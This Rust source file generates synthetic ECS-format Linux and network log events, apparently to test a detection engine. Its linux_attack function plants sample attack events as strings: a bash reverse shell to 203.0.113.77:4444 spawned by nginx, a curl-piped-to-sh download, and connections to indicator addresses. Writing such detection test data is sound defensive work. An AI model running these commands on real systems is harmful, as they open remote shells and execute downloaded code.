//! Linux endpoint and network events in the Elastic Common Schema (ECS), as
//! Elastic Agent / Auditbeat / Packetbeat ship them.

use crate::{Planted, Rng, push_json_str};

const HOSTS: &[&str] = &["web-01", "web-02", "db-01", "build-07", "bastion"];
const USERS: &[&str] = &["root", "www-data", "deploy", "postgres", "alice"];
const PROCS: &[(&str, &str, &str)] = &[
    (
        "/usr/sbin/nginx",
        "nginx: worker process",
        "/usr/sbin/nginx",
    ),
    (
        "/usr/bin/python3",
        "/usr/bin/python3 /opt/app/manage.py runworker",
        "/usr/bin/bash",
    ),
    (
        "/usr/bin/git",
        "git pull --ff-only origin main",
        "/usr/bin/bash",
    ),
    ("/usr/bin/ls", "ls -la /var/log", "/usr/bin/bash"),
    (
        "/usr/bin/systemctl",
        "systemctl status nginx.service",
        "/usr/bin/sudo",
    ),
    (
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres: checkpointer",
        "/usr/lib/postgresql/16/bin/postgres",
    ),
    ("/usr/bin/cron", "/usr/sbin/CRON -f -P", "/usr/sbin/cron"),
    (
        "/usr/bin/tar",
        "tar czf /backup/app-2026.tgz /opt/app",
        "/usr/bin/bash",
    ),
];
const DOMAINS: &[&str] = &[
    "api.github.com",
    "deb.debian.org",
    "pypi.org",
    "s3.eu-west-1.amazonaws.com",
    "db-01.internal.example",
];

/// An ECS object; values are strings or raw JSON (numbers).
struct Obj(String);

impl Obj {
    fn new(time: &str, host: &str) -> Obj {
        let mut o = Obj(String::with_capacity(700));
        o.0.push('{');
        o.s("@timestamp", time);
        o.s("host.name", host);
        o.s("host.os.type", "linux");
        o.s("agent.type", "auditbeat");
        o
    }
    fn key(&mut self, k: &str) {
        if self.0.len() > 1 {
            self.0.push(',');
        }
        self.0.push('"');
        self.0.push_str(k);
        self.0.push_str("\":");
    }
    /// Dotted ECS keys are written as nested objects by splitting on the
    /// first dot only when the writer asks; forwarders ship both shapes,
    /// and Warden reads both, so flat dotted keys are kept here.
    fn s(&mut self, k: &str, v: &str) {
        self.key(k);
        self.0.push('"');
        push_json_str(&mut self.0, v);
        self.0.push('"');
    }
    fn n(&mut self, k: &str, v: u64) {
        self.key(k);
        self.0.push_str(&v.to_string());
    }
    fn done(mut self) -> String {
        self.0.push('}');
        self.0
    }
}

fn process_start(rng: &mut Rng, time: &str, exe: &str, cmd: &str, parent: &str) -> String {
    let mut o = Obj::new(time, rng.pick(HOSTS));
    o.s("event.category", "process");
    o.s("event.type", "start");
    o.s("event.dataset", "auditd.log");
    o.s("event.action", "executed");
    o.s("process.executable", exe);
    o.s("process.name", exe.rsplit('/').next().unwrap_or(exe));
    o.s("process.command_line", cmd);
    o.n("process.pid", 1000 + rng.below(60000) as u64);
    o.s("process.parent.executable", parent);
    o.n("process.parent.pid", 1 + rng.below(60000) as u64);
    o.s("process.working_directory", "/opt/app");
    o.s("user.name", rng.pick(USERS));
    o.done()
}

fn connection(rng: &mut Rng, time: &str, dst_ip: &str, port: u64, exe: &str) -> String {
    let mut o = Obj::new(time, rng.pick(HOSTS));
    o.s("event.category", "network");
    o.s("event.type", "connection");
    o.s("event.dataset", "auditd.log");
    o.s("network.transport", "tcp");
    o.s("network.direction", "egress");
    o.s(
        "source.ip",
        &format!("172.16.{}.{}", rng.below(255), 1 + rng.below(254)),
    );
    o.n("source.port", 32768 + rng.below(28000) as u64);
    o.s("destination.ip", dst_ip);
    o.n("destination.port", port);
    o.s("process.executable", exe);
    o.s("user.name", rng.pick(USERS));
    o.done()
}

fn dns(rng: &mut Rng, time: &str, name: &str) -> String {
    let mut o = Obj::new(time, rng.pick(HOSTS));
    o.s("event.category", "network");
    o.s("event.type", "protocol");
    o.s("event.dataset", "network_traffic.dns");
    o.s("network.protocol", "dns");
    o.s("dns.question.name", name);
    o.s("dns.question.type", "A");
    o.s(
        "source.ip",
        &format!("172.16.{}.{}", rng.below(255), 1 + rng.below(254)),
    );
    o.s("destination.ip", "172.16.0.2");
    o.done()
}

fn public_ip(rng: &mut Rng) -> String {
    format!(
        "{}.{}.{}.{}",
        13 + rng.below(180),
        rng.below(255),
        rng.below(255),
        1 + rng.below(254)
    )
}

/// One benign Linux or network event.
pub(crate) fn linux_event(rng: &mut Rng, time: &str) -> String {
    match rng.below(100) {
        0..=44 => {
            let (exe, cmd, parent) = PROCS[rng.below(PROCS.len())];
            process_start(rng, time, exe, cmd, parent)
        }
        45..=74 => {
            let ip = public_ip(rng);
            let port = [443u64, 80, 5432, 22][rng.below(4)];
            connection(rng, time, &ip, port, "/usr/bin/python3")
        }
        75..=89 => {
            let name = rng.pick(DOMAINS);
            dns(rng, time, name)
        }
        _ => {
            let mut o = Obj::new(time, rng.pick(HOSTS));
            o.s("event.category", "authentication");
            o.s("event.dataset", "system.auth");
            o.s("process.name", "sshd");
            let user = rng.pick(USERS);
            let ip = public_ip(rng);
            o.s(
                "message",
                &format!(
                    "Accepted publickey for {user} from {ip} port {} ssh2",
                    1024 + rng.below(60000)
                ),
            );
            o.s("user.name", user);
            o.s("source.ip", &ip);
            o.done()
        }
    }
}

/// A Linux or network event that a starter-pack rule or a demo indicator must flag.
pub(crate) fn linux_attack(rng: &mut Rng, time: &str, planted: Planted) -> String {
    match planted {
        Planted::ReverseShell => process_start(
            rng,
            time,
            "/usr/bin/bash",
            "bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'",
            "/usr/sbin/nginx",
        ),
        Planted::CurlPipeShell => process_start(
            rng,
            time,
            "/usr/bin/curl",
            "curl -fsSL http://203.0.113.77/x.sh | sh",
            "/usr/bin/bash",
        ),
        Planted::IndicatorIp => connection(
            rng,
            time,
            crate::stream::INDICATOR_IP,
            443,
            "/tmp/.cache/kworkerd",
        ),
        Planted::IndicatorDomain => dns(
            rng,
            time,
            &format!("cdn.{}", crate::stream::INDICATOR_DOMAIN),
        ),
        _ => linux_event(rng, time),
    }
}
